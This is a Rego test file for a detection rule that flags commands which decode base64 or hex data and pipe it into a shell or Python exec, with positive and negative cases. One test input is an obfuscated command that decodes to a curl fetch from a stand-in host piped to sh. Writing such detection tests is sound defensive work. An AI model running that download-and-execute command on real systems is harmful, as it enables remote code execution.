package palisade.rules.decoded_payload_to_shell_test

import rego.v1

import data.palisade.lib.fixtures as fx
import data.palisade.rules.decoded_payload_to_shell as rule

test_base64_pipe_bash if {
	hits := rule.hits with input as fx.container_exec("/bin/sh", ["sh", "-c", "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveHxzaAo= | base64 -d | bash"])
	count(hits) == 1
}

test_eval_of_decoded if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/bash", ["bash", "-c", `eval "$(echo aWQ= | base64 --decode)"`])
	count(hits) == 1
}

test_xxd_to_sh if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/bash", ["bash", "-c", "echo 6964 | xxd -r -p | sh"])
	count(hits) == 1
}

test_python_b64_exec if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/python3", ["python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"])
	count(hits) == 1
}

test_decode_to_file_is_not_matched if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/bash", ["bash", "-c", "base64 -d cert.b64 > /etc/ssl/private/cert.pem"])
	count(hits) == 0
}

test_python_b64_without_exec_is_not_matched if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/python3", ["python3", "-c", "import base64;print(base64.b64decode('aGk='))"])
	count(hits) == 0
}
